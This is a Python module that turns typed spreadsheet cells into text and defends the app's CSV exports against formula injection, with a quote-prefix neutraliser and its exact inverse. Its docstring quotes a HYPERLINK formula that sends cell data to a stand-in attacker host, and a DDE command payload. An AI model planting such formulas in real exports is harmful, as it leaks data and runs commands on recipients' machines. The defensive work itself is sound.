"""Spreadsheet cells as text: typed cells read, formula injection in exports neutralised.

Reading: :func:`cell_text` turns a typed cell (what calamine or openpyxl give
for an .xlsx, .xls or .ods) into the text the file's author sees, as pyxform
does when it converts an XLSForm for KoboToolbox or ODK, so a form's names
match the answers those tools export.

Writing: a spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV file
evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
versions, a tab, carriage return or NUL before one) as a formula: an open
answer ``=HYPERLINK("https://evil.example/?"&A2;"klik")`` becomes a link that
sends the neighbouring cells away, ``-2+3+cmd|' /C calc'!A0`` a DDE command.
Every export this app writes passes each text cell through :func:`neutralise`
first (OWASP "CSV injection", ASVS 1.2.10): such a cell gets a leading single
quote, which spreadsheets read as "this is text" and do not show.

Two exceptions keep exports useful:

* A cell that is a plain number (``-3``, ``-2.5``, ``-1e-3``) is left alone:
  a spreadsheet reads it as the number it is, no formula is involved, and a
  negative answer to a number question must stay a number for whoever sums
  the column.
* :func:`restore` undoes :func:`neutralise` exactly, so ``ledenpanel analyse``
  reads the app's own export back with the same answers. The two are each
  other's inverse on every string because a cell that already starts with
  quotes before a trigger (``'=x``) gets one more quote too: ``restore`` only
  ever removes a quote that ``neutralise`` could have added.

Cells in an .xlsx file are typed, so there the defence is different: write
them as string cells, never as formulas (see ``kernel/xlsform/writing.py``),
and mark the ones :func:`is_formula_like` flags with Excel's *quote prefix*
style, so editing such a cell in Excel keeps it text.

Pure: no Django, no I/O.
"""

from __future__ import annotations

import datetime as dt
import re

QUOTE = "'"


def cell_text(value: object) -> str:
    """A typed spreadsheet cell as text, the way pyxform reads it.

    - empty (``None``) → ``""``; text is stripped of surrounding white space;
    - a whole number, stored as a float or not, without ``.0``: ``3.0`` →
      ``"3"``, ``-0.0`` → ``"0"`` (a choice typed as ``1`` is stored as the
      number 1.0, and Kobo exports its answer as ``1``); other numbers as
      Python writes them (``3.5``, ``1e-07``);
    - a boolean → ``"TRUE"``/``"FALSE"``, as Excel shows it and Kobo exports
      it (yes/no columns read it case-blind);
    - a date → ``2026-05-01``; a date and time → ``2026-05-01 08:30:00``, or
      the date alone at midnight (a date cell in some readers); a time →
      ``08:30:00``; a duration as Python writes it (``1:30:00``).

    Text such as ``NA`` or ``n/a`` stays text: whether it means "no answer"
    is for the reader of answers to say, not for a form's cells.
    """
    if value is None:
        return ""
    if isinstance(value, str):
        return value.strip()
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, dt.datetime):
        if value.time() == dt.time(0, 0) and value.tzinfo is None:
            return value.date().isoformat()
        return value.isoformat(sep=" ")
    if isinstance(value, dt.date | dt.time):
        return value.isoformat()
    return str(value).strip()


# The characters that make a spreadsheet read a cell as a formula when they
# come first: OWASP's = + - @ tab CR, ASVS's NUL, a line feed (the CR's twin),
# and the full-width forms of = + - @, which East Asian Excel versions turn
# into their ASCII counterparts while typing or importing.
TRIGGERS = "=+-@\t\r\n\x00＝＋－＠"

# Leading spaces do not protect: some importers strip them before deciding.
# Leading quotes are counted so that restore() can tell its own quote from a
# member's (see the module's docstring).
_FORMULA_LIKE = re.compile(rf"'* *[{re.escape(TRIGGERS)}]")
_NEUTRALISED = re.compile(rf"'+ *[{re.escape(TRIGGERS)}]")

# A plain decimal number as the exports write one: ASCII digits, an optional
# leading minus, an optional decimal point and exponent. Nothing else: "-2+3",
# "-1,5" (a thousands separator in English Excel), "-inf" and "-0x1" are text.
_PLAIN_NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", re.ASCII)


def is_plain_number(text: str) -> bool:
    """Whether a spreadsheet reads ``text`` as a number without any formula."""
    return _PLAIN_NUMBER.fullmatch(text) is not None


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet might evaluate ``text`` as a formula (plain numbers are not)."""
    return _FORMULA_LIKE.match(text) is not None and not is_plain_number(text)


def neutralise(text: str) -> str:
    """``text`` as a cell a spreadsheet shows as text: a leading quote where it is needed."""
    return QUOTE + text if is_formula_like(text) else text


def restore(text: str) -> str:
    """The inverse of :func:`neutralise`: ``restore(neutralise(x)) == x`` for every string."""
    return text[1:] if _NEUTRALISED.match(text) else text
